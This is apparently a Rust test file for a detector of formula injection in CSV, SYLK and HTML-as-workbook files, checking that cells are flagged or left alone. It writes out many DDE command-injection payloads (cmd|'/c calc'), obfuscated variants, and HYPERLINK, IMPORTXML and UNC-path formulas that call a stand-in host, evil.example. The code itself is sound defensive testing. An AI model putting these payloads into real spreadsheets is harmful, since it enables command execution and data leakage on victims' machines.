//! Cells that a spreadsheet takes for formulas, and those that only look like one.

use std::time::Duration;

use crate::formats::shown::{open_within, show, shown};

fn marks(name: &str, table: &str) -> String {
    let found = shown(name, table.as_bytes());
    found.lines().next().and_then(|line| line.split_once("] ")).map_or(String::new(), |(_, marks)| marks.to_owned())
}

#[test]
fn tables_that_ask_other_programs() {
    for table in [
        "=cmd|'/c calc'!A0",
        "a,=cmd|'/c calc'!A0,b",
        "a\t\"= cmd|' /C calc'!'A0'\"",
        "a;-2+3+cmd|' /C calc'!A0",
        "a;@SUM(1+1)*cmd|' /C calc'!A0",
        "a,+cmd|'/c x'!A0",
        "\u{ff1d}cmd|'/c x'!A0",
        // Separators and ends of lines within what is asked.
        "a\t=cmd|'/c a,b;c'!A0",
        "\"=cmd|'/c a\n'!A0\"",
        "=DDE(\"cmd\";\"/c x\";\"y\")",
        "\"=\"\"a|b\"\"&cmd|'/c x'!A0\"",
        // A separator of the sender's choice, and one within what looks like a topic.
        "sep=^\r\nfoo^=foo|'/c calc'!A0",
        "\"sep=\u{a7}\"\nfoo\u{a7}+foo|'/c calc'!A0",
        "a;b;c;d\na;b;c;d\n=a|'b,=foo|'/c calc'!A0",
        "a\tb\n@a|'b;-foo|'/c calc'!A0",
        "+foo|bar!baz",
    ] {
        assert!(marks("a.csv", table).contains("dde"), "{table}: {}", marks("a.csv", table));
    }
    assert!(marks("a.slk", "ID;PWXL\r\nC;Y1;X1;Ecmd|'/c a;;b'!A0\r\nE\r\n").contains("dde"));
}

#[test]
fn ordinary_exports() {
    let rows = "Ann,@acme | Head of PR! Love coffee\nBob,- Start | Register now!\nCid,+Bonus | Nur heute!\n\
        Dan,+49 30 1234|call first!\nJo,@foo|bar!baz\nKim,- Login|user!pass\nLu,- DDE (metabolite)\n\
        Mo,+ DDE (total)\nOz,\"- DDE (a; b; c)\"\nEve,@acme|CEO! Yes\nFay,=?utf-8?q?A|B!?=\nGus,-5\nHal,- it's 5|6!\nIda,@ida\n";
    let found = marks("a.csv", rows);
    assert!(!found.contains("dde"), "{found}");
    let found = marks("a.csv", "Ann,-DDE(ng/g)\nBob,@DDE(ng/g)\n");
    assert!(!found.contains("dde"), "{found}");
    for (rows, separator) in [(rows, ','), (rows, ';'), (rows, '\t')] {
        let rows = rows.replace(',', &separator.to_string());
        let rows: String = rows.lines().filter(|row| !row.contains("=?")).map(|row| format!("{row}\n")).collect();
        assert_eq!(marks("a.csv", &rows), "", "{rows}");
    }
}

/// Links behind whichever sign may part the cells, and none that no program sees.
#[test]
fn links_behind_each_separator() {
    let link = "\"=HYPERLINK(A2&\"\"x\"\")\"";
    for (table, expected) in [
        ("sep=^\nhttps://evil.example/^z^=HYPERLINK(A1&\"x\")\n".to_owned(), "Anchor: https://evil.example/x "),
        (format!("a;b;c\nhttps://evil.example/,{link}\n"), "Anchor: https://evil.example/x "),
        (format!("a,b,c\nhttps://evil.example/\t{link}\n"), "Anchor: https://evil.example/x "),
        (
            "a;b;c;d\na;b;c;d\nx,=HYPERLINK(\"https://ev\"&\"il.example/x\")\n".to_owned(),
            "Anchor: https://evil.example/x ",
        ),
    ] {
        let found = shown("a.csv", table.as_bytes());
        assert!(found.contains(expected) && !found.contains("computed"), "{table}: {found}");
    }
    // A table of one kind, with the other signs in its texts.
    let table = "name,link\n\"a; b\",\"=HYPERLINK(\"\"https://a.example/\"\"&A2,\"\"x; y\"\")\"\n";
    let found = shown("a.csv", table.as_bytes());
    assert!(found.contains("https://a.example/") && !found.contains("computed"), "{found}");
}

/// A spreadsheet opens a page that is called a workbook.
#[test]
fn cells_of_pages_that_are_called_workbooks() {
    for (page, expected) in [
        (
            "<table><tr><td>=HYPERLINK(\"http://ev\"&amp;\"il.example/login\",\"x\")</td></tr></table>",
            "Anchor: http://evil.example/login [x]",
        ),
        (
            "<html><style>a=\"b\"</style><p>a</p><table><tr><th colspan=2>http://ev<td>il.example/<tr><td>=<b>HYPERLINK</b>(A2&amp;C2)</table>",
            "Anchor: http://evil.example/ ",
        ),
        (
            "<table><tr><td title='>' x:fmla='=HYPERLINK(\"http://ev\"&amp;\"il.example/\")'>here</td></tr></table>",
            "Anchor: http://evil.example/ ",
        ),
        (
            "<table><tr><td title=\"x:fmla='1'\" data-x:fmla='2' x:fmla='=1' X:FMLA = '=HYPERLINK(\"http://ev\"&amp;\"il.example/4\")'>x</table>",
            "Anchor: http://evil.example/4 ",
        ),
        (
            "<html><table><tr><td>=IMPORTXML(CONCAT(\"http://evil\",\".example/login\"),\"//a\")</td></tr></table></html>",
            "Fetched: http://evil.example/login",
        ),
        ("<html><!-- > --><div>@SUM(cmd|'/c calc'!A0)</div></html>", "dde"),
    ] {
        for name in ["a.xls", "a.xlt", "a.csv"] {
            let found = shown(name, page.as_bytes());
            assert!(found.contains(expected), "{name} {page}: {found}");
        }
        assert!(!shown("a.html", page.as_bytes()).contains(expected), "{page}");
    }
    let honest = "<html><style>a>b{c:d(e)}</style><table><tr><td>-5<td>+49 30 1234<td>- see (below)<td>a=b(c)<td x:fmla=\"=SUM(A1:A1)\">-5</table>";
    assert_eq!(marks("a.xls", honest), "");
}

#[test]
fn books_on_other_machines() {
    let found = shown("a.csv", b"a,='\\\\evil.example\\share\\[B.XLSX]S'!A1\n");
    assert!(found.contains("external_link") && found.contains("unc_path"), "{found}");
}

#[test]
fn cells_of_symbolic_link_files() {
    for (cells, formula) in [
        ("C;Y1;X1;K\"https://ev\"\r\nC;X2;K\"il.example/x\"\r\n", "R1C1&R1C2"),
        ("C;Y1;X1;K\"https://ev\"\r\nC;Y1;X2;K\"il.example/x\"\r\n", "R[-1]C&R[-1]C[+1]"),
        ("F;Y1;X1\r\nC;K\"https://ev\"\r\nC;Y1;X2;K0;E\"il.exa\"&\"mple/x\"\r\n", "R1C1&R1C2"),
        ("NN;NWhere;E\"https://ev\"&\"il.example/x\"\r\n", "Where"),
    ] {
        let table = format!("ID;PWXL;N;E\r\n{cells}C;Y2;X1;K\"open\";EHYPERLINK({formula},\"a;;b\")\r\nE\r\n");
        let found = shown("a.slk", table.as_bytes());
        assert!(found.contains("Anchor: https://evil.example/x [a;b]"), "{found}");
    }
    // The second cell shares the formula of the first.
    let table = "ID;PWXL;N;E\r\nC;Y1;X1;K\"https://a.example/\"\r\nC;Y2;X1;K\"https://b.example/\"\r\n\
        C;Y1;X2;K0;EHYPERLINK(RC[-1])\r\nC;Y2;X2;K0;S;R1;C2\r\nE\r\n";
    let found = shown("a.slk", table.as_bytes());
    assert!(found.contains("Anchor: https://a.example/") && found.contains("Anchor: https://b.example/"), "{found}");
    let found = marks("a.slk", "ID;PWXL\r\nC;Y1;X1;EEXEC (\"calc\")\r\nE\r\n");
    assert!(found.contains("xlm"), "{found}");
}

#[test]
fn cells_that_add_up_without_a_call() {
    let found = shown("a.csv", b"https://ev,il.example/x,=A1&B1,\"=HYPERLINK(C1,\"\"go\"\")\"\n");
    assert!(found.contains("Anchor: https://evil.example/x [go]") && !found.contains("link_computed"), "{found}");
}

#[test]
fn tables_of_empty_cells_end() {
    for piece in ["\t", "\" \t", "=\t", "=a|'\t", "sep= \n ", "DDE(", "=DDE(", "\"\"\t"] {
        let table = format!("{}\n=foo|'/c calc'!A0", piece.repeat(300_000));
        let found = show(&open_within(Duration::from_secs(3), "text/csv", table.as_bytes()));
        assert!(
            !found.contains("unopened") && found.contains("dde"),
            "{piece}: {}",
            found.get(..300).unwrap_or(&found)
        );
    }
}

#[test]
fn symbolic_links_of_many_fields_end() {
    let fields = ";S".repeat(300_000);
    let table = format!("ID;PWXL;N;E\r\nC;Y1;X1;R2;C2{fields}\r\nC;Y2;X2;EHYPERLINK(\"https://a.example/\")\r\nE\r\n");
    let found = show(&open_within(Duration::from_secs(2), "", table.as_bytes()));
    assert!(!found.contains("unopened") && found.contains("Anchor: https://a.example/"), "{found}");
    // A cell may stand in front of the one whose formula it has.
    let table = "ID;PWXL;N;E\r\nC;Y1;X2;K0;S;R2;C2\r\nC;Y1;X1;K\"https://a.example/\"\r\nC;Y2;X1;K\"https://b.example/\"\r\n\
        C;Y2;X2;K0;EHYPERLINK(RC[-1])\r\nE\r\n";
    let found = shown("a.slk", table.as_bytes());
    assert!(found.contains("Anchor: https://a.example/") && found.contains("Anchor: https://b.example/"), "{found}");
}
